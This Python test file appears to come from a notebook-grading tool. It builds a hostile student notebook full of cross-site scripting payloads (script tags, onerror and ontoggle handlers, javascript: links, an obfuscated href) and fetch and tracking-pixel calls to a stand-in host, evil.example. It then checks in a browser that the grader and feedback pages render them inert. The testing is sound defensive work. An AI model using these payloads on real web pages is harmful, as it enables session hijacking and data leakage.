"""A hostile hand-in opened by a trainer logged into JupyterLab: nothing the candidate wrote runs.

The candidate's notebook carries active content in every form a notebook can hold (Markdown, HTML, SVG,
JavaScript and LaTeX outputs, a judgement answer with raw HTML and ``javascript:`` links). It is graded by
``cmcert grade``; then formgrader's view of the graded copy and the candidate's feedback page are opened in
Chromium with the trainer's session, and the test asserts that no payload ran (each would set
``window.__pwned`` or change the title), that no request left the machine, and that no live
``javascript:`` link is left on the page.
"""

from __future__ import annotations

import os
import subprocess

import nbformat
import pytest
from nbgrader.api import Gradebook

from cmcert_lib.authoring import cells, textformat
from cmcert_lib.demo import fill
from tests.browser import harness
from tests.conftest import CMCERT, demo_copy

PlaywrightTimeout = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed").TimeoutError

STUDENT = "candidat_hostile"
NOTEBOOK = "01_brief.ipynb"
OPEN_TIMEOUT = 120_000
PWN = "window.__pwned = (window.__pwned || []).concat"  # each payload pushes its own number
OUTPUTS = f'''from IPython.display import HTML, SVG, Javascript, Markdown, display

display(Markdown('<script>{PWN}([1]); document.title = "PWNED"</script> [clic](javascript:window.__pwned=[2]) '
                 '<img src=x onerror="{PWN}([3])"> <img src="http://evil.example/suivi.png">'))
display(HTML('<img src=x onerror="{PWN}([4])"><iframe src="javascript:parent.__pwned = [5]"></iframe>'
             '<a href="javascript:{PWN}([6])">lien</a>'
             '<style>body {{ background: url(http://evil.example/f) }}</style>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>{PWN}([7])</script>'
            '<rect width="10" height="10" onload="{PWN}([8])"/></svg>'))
display(Javascript('{PWN}([9]); fetch("http://evil.example/vol")'))
display({{"text/latex": r"$\\href{{javascript:{PWN}([10])}}{{x}}$",
          "text/html": '<details open ontoggle="{PWN}([11])">x</details>'}}, raw=True)
'''
MANUAL = (f'<img src=x onerror="{PWN}([12])"> [ma réponse](javascript:window.__pwned=[13]) '
          f'<script>{PWN}([14])</script> <a href="jAvAsCrIpT&#58;alert(15)">voir</a> '
          '![suivi](http://evil.example/pixel.png)')
LIVE_LINKS = """() => [...document.querySelectorAll('a[href], iframe[src], img[src]')]
    .map(e => e.getAttribute('href') || e.getAttribute('src'))
    .filter(h => /^\\s*(javascript|vbscript|data:text)/i.test(h))"""


@pytest.fixture(scope="module")
def hostile_course(request, tmp_path_factory):
    reason = harness.unavailable()
    if reason:
        pytest.skip(reason)
    course = demo_copy(request.getfixturevalue("demo_template"), tmp_path_factory.mktemp("hostile") / "cours")
    release = nbformat.read(course.release("bloc1") / NOTEBOOK, as_version=4)
    source = nbformat.read(course.source("bloc1") / NOTEBOOK, as_version=4)
    nb = fill(release, source, manual=MANUAL)
    first_answer = next(i for i, c in enumerate(nb.cells) if cells.is_answer(c) and c.cell_type == "code")
    nb.cells.insert(first_answer, nbformat.v4.new_code_cell(OUTPUTS))
    nb.cells[first_answer].pop("id", None)
    dest = course.submitted(STUDENT, "bloc1")
    dest.mkdir(parents=True)
    (dest / NOTEBOOK).write_text(textformat.dumps(nb), encoding="utf-8")
    (dest / "timestamp.txt").write_text("2027-02-01 18:00:00.000000 UTC\n", encoding="utf-8")
    env = dict(os.environ, PATH=f"{CMCERT.parent}{os.pathsep}{os.environ['PATH']}")
    env.pop("CMCERT_COURSE", None)
    for command in (["build"], ["grade", "bloc1", "--student", STUDENT, "--quiet"]):
        proc = subprocess.run([str(CMCERT), *command], cwd=course.root, env=env, capture_output=True, text=True,
                              timeout=900, check=False)
        assert proc.returncode == 0, proc.stdout + proc.stderr
    return course


@pytest.fixture(scope="module")
def hostile_lab(hostile_course, tmp_path_factory):
    server = harness.start_lab(hostile_course.root, tmp_path_factory.mktemp("jupyter-hostile"))
    try:
        yield server
    finally:
        server.stop()


def _nothing_ran(page) -> list[str]:
    found = []
    for frame in page.frames:
        try:
            pwned = frame.evaluate("() => window.__pwned || null")
        except Exception:  # noqa: BLE001, S112 - a frame that went away or is cross-origin ran nothing here
            continue
        if pwned:
            found.append(f"{frame.url}: payload(s) {pwned}")
    if page.title() == "PWNED":
        found.append("title changed")
    links = page.evaluate(LIVE_LINKS)
    if links:
        found.append(f"live links: {links}")
    return found


def test_a_hostile_hand_in_is_inert_for_the_trainer_and_the_candidate(hostile_course, hostile_lab, browser):
    page = browser.page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    problems: dict[str, list[str]] = {}

    # formgrader's page of the graded copy, as « Manual Grading » opens it.
    with Gradebook(hostile_course.gradebook_url) as gb:
        submission = gb.find_submission_notebook(NOTEBOOK.removesuffix(".ipynb"), "bloc1", STUDENT).id
    page.goto(hostile_lab.link(f"formgrader/submissions/{submission}/"))
    page.wait_for_selector(".cell", timeout=OPEN_TIMEOUT)
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(1500)  # time for any onload/onerror handler to fire
    browser.shot(page, "formgrader_copie_hostile", full_page=True)
    problems["formgrader"] = _nothing_ran(page)
    assert "ma réponse" in page.inner_text("body")  # the candidate's answer is shown, as text

    feedback = hostile_course.feedback(STUDENT, "bloc1") / NOTEBOOK.replace(".ipynb", ".html")
    page.goto(feedback.as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(1500)
    browser.shot(page, "retour_copie_hostile", full_page=True)
    problems["retour"] = _nothing_ran(page)

    # Every link the candidate wrote, clicked: a live javascript: link would run now.
    for link in page.locator("a[href]").all():
        href = link.get_attribute("href") or ""
        if not href.startswith(("#", "http", "mailto")):
            link.click(timeout=5_000)
    problems["retour, liens cliqués"] = _nothing_ran(page)
    problems = {where: found for where, found in problems.items() if found}
    assert not problems, problems
    assert not dialogs, dialogs
    assert not browser.foreign_requests(), browser.foreign_requests()
